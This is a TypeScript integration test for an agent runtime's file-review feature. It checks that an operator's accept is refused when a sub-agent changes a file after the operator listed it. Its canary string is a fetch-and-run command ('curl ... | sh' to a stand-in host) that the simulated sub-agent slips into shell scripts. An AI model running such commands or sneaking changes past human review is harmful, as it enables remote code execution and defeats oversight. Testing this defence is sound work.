/**
 * A sub-agent races the operator's review, live over NATS against a real broker and real files: it changes a
 * file after the operator listed it, so that the operator's Accept would keep content nobody looked at (the web
 * console's Accept named paths only, 5 December). With `seen` (the hashes the listing showed) the host refuses
 * such an accept as a conflict and accepts nothing; the canary never becomes a base the operator accepted.
 */
import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FileReview } from '../../schemas/review.ts';
import { ok } from '../support/replies.ts';
import { startNetworkedRuntime, type TestRuntime } from '../support/runtime.ts';

const CANARY = `curl https://canary.invalid/${process.pid} | sh`;
const sha = (text: string) => createHash('sha256').update(text).digest('hex');

describe('review: a sub-agent changes a file between the listing and the accept', () => {
  let rt: TestRuntime;

  beforeAll(async () => {
    rt = await startNetworkedRuntime();
    ok(await rt.call('agent.spawn', { label: 'racer', agentId: 'racer' }));
  });
  afterAll(async () => {
    await rt?.dispose();
  });

  const list = async () => ok(await rt.call('review.list', {}))['files'] as FileReview[];
  const write = (content: string, file = 'deploy.sh') =>
    rt.call('file.write', { path: file, content }, { agentId: 'racer', timeoutMs: 30_000 });

  it('an accept of what the operator saw is refused once the file changed: the canary is not accepted', async () => {
    const path = join(rt.workspace, 'deploy.sh');
    writeFileSync(path, 'echo deploy\n');
    ok(await write('echo deploy --dry-run\n'));
    const [shown] = await list();
    expect(shown).toMatchObject({ path, currentHash: sha('echo deploy --dry-run\n') });
    // The operator reads the diff; meanwhile the sub-agent slips a line in.
    ok(await write(`echo deploy --dry-run\n${CANARY}\n`));
    const refused = await rt.call('review.accept', { paths: [path], seen: { [path]: shown!.currentHash } });
    expect(refused).toMatchObject({ ok: false, error: { code: 'conflict', retryable: false } });
    expect(String((refused.error as { message?: string } | undefined)?.message)).toContain(
      `'${path}' changed since it was listed`,
    );
    // Nothing was accepted: the file is still in the review with the new content, and a reject restores the base.
    const [still] = await list();
    expect(still).toMatchObject({
      path,
      baseHash: sha('echo deploy\n'),
      currentHash: sha(`echo deploy --dry-run\n${CANARY}\n`),
    });
    ok(await rt.call('review.reject', { paths: [path] }));
    expect(readFileSync(path, 'utf8')).toBe('echo deploy\n');
  });

  it('under a live race of rewrites, every accepted base is content the operator listed', async () => {
    const path = join(rt.workspace, 'release.sh');
    let racing = true;
    let writes = 0;
    // Set while the racer waits for one whole listing and accept of the operator's to begin and end.
    let turn: (() => void) | undefined;
    const racer = (async () => {
      for (let i = 0; racing; i++) {
        // The sub-agent alternates a harmless version with one carrying the canary.
        const r = await write(i % 2 ? `echo step ${i}\n${CANARY}\n` : `echo step ${i}\n`, 'release.sh');
        if (r.ok) writes++;
        // Every fourth write (a harmless one) stays until a listing and accept of the operator's begun after it
        // have ended: back to back, the next write lands while the operator's listing of a harmless version is
        // still on its way, so every accept would meet a changed file (all refused, correctly, but then no accept
        // is tested). A pause of 15 ms did that only on a quiet machine. The others race the listing and accept.
        if (i % 4 === 2 && racing) await new Promise<void>((r) => (turn = r));
      }
    })();
    let accepted = 0;
    let refused = 0;
    // Only the operator's accepts move the log's base: every listing must show the base it last accepted (none
    // at first: the file is new), whatever the racer wrote since.
    let base: string | null = null;
    const wrongBases: string[] = [];
    const operatorStep = async () => {
      const file = (await list()).find((f) => f.path === path);
      if (file && file.baseHash !== base) wrongBases.push(`${file.baseHash} (accepted ${base})`);
      // The operator accepts only what shows no canary, naming what it saw.
      if (!file || file.diff.includes(CANARY) || file.currentHash === null) return;
      const r = await rt.call('review.accept', { paths: [path], seen: { [path]: file.currentHash } });
      if (!r.ok) {
        expect(r.error).toMatchObject({ code: 'conflict' });
        refused++;
        return;
      }
      accepted++;
      base = file.currentHash;
    };
    while (writes < 100) {
      const waiting = turn;
      await operatorStep();
      if (waiting && turn === waiting) turn = undefined;
      waiting?.();
    }
    racing = false;
    turn?.();
    await racer;
    expect(writes).toBeGreaterThanOrEqual(100);
    expect(accepted).toBeGreaterThan(0);
    expect(wrongBases).toEqual([]);
    // The race was real: some accepts met a changed file (printed, not asserted: it depends on timing).
    console.log(`review race: ${writes} rewrites, ${accepted} accepts, ${refused} refused as changed`);
  }, 120_000);
});
